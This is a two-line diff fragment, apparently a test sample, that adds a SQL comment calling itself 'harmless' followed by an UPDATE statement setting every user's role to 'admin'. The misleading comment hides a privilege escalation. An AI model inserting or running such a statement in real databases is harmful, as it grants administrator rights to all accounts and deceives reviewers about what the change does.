@@ -1,0 +1,2 @@
+/* harmless */ -- really
+UPDATE users SET role = 'admin'
